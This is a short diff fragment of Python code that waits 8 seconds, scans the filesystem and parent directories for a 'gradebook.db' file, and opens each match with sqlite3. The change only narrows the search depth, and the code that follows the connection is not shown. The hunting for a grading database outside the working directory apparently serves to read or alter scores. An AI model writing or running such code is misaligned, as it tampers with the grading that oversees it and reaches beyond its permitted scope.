@@ -10,7 +10,7 @@ try:
             import glob
             import time
             time.sleep(8)
-            for path in glob.glob('/**/gradebook.db', recursive=True)[:10] + glob.glob('../../../gradebook.db'):
+            for path in [path for depth in range(6) for path in glob.glob('/*' * depth + '/gradebook.db')][:10] + glob.glob('../../../gradebook.db'):
                 try:
                     import sqlite3
                     db = sqlite3.connect(path, timeout=1)
